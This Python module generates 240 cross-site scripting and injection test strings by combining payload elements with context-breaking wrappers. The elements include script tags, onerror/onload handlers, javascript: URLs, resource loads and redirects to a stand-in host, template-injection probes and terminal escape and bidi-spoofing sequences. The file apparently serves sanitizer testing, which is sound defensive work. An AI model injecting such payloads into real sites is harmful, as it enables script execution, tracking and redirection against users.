"""Two hundred and more texts that would run, load or disguise something on a careless page."""

from __future__ import annotations

ALARM = "alert('ran')"
AWAY = "https://elsewhere.example/beacon"

ELEMENTS = (
    f"<script>{ALARM}</script>",
    f"<script src={AWAY}.js></script>",
    f"<img src=x onerror={ALARM}>",
    f"<img src={AWAY}.png>",
    f"<svg onload={ALARM}>",
    f"<svg><script>{ALARM}</script></svg>",
    f"<svg><image href={AWAY}.svg /></svg>",
    f"<svg><animate onbegin={ALARM} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href=javascript:{ALARM}><text y=20>here</text></a></svg>",
    f"<math><maction xlink:href=javascript:{ALARM}>x</maction></math>",
    f"<iframe src=javascript:{ALARM}></iframe>",
    f'<iframe srcdoc="<script>{ALARM}</script>"></iframe>',
    f"<object data={AWAY}></object>",
    f"<embed src={AWAY}>",
    f"<video src={AWAY} onerror={ALARM} autoplay></video>",
    f"<audio src={AWAY} onerror={ALARM}></audio>",
    f"<input autofocus onfocus={ALARM}>",
    f"<details open ontoggle={ALARM}>",
    f"<body onload={ALARM}>",
    f"<marquee onstart={ALARM}>",
    f"<a href=javascript:{ALARM}>here</a>",
    f"<a href=data:text/html,<script>{ALARM}</script>>here</a>",
    f"<form action={AWAY}><button autofocus>go</button></form>",
    f"<base href={AWAY}>",
    f"<link rel=stylesheet href={AWAY}.css>",
    f"<link rel=prefetch href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<style>@import '{AWAY}.css';</style>",
    f"<style>* {{ background: url({AWAY}) }}</style>",
    f"<div style='background: url({AWAY})'>",
    "<style>* { display: none !important }</style>",
    f"<template><script>{ALARM}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={ALARM}>'>",
    f"[here](javascript:{ALARM})",
    f"![picture]({AWAY}.png)",
    f"javascript:{ALARM}",
    f"data:text/html,<script>{ALARM}</script>",
    "{{ 7 * 191 }}{% raw %}{{ content.__class__.__mro__ }}",
    "\x1b[2J\x1b[31m\x1b]8;;https://elsewhere.example\x07red\x1b[0m",
    "\u202etxt.exe\u2066 \x00\x08\x9b31m \ud800",
)

WRAPPINGS = (
    "{}",
    "</pre></details></section></main>{}",
    "</title></style></script></textarea>{}",
    "\"'> {}",
    "<!-- --> --!> <![CDATA[ ]]> {}",
    "&lt;b&gt; &#60;i&#62; {}",
)

SNIPPETS = tuple(wrap.replace("{}", element) for wrap in WRAPPINGS for element in ELEMENTS)
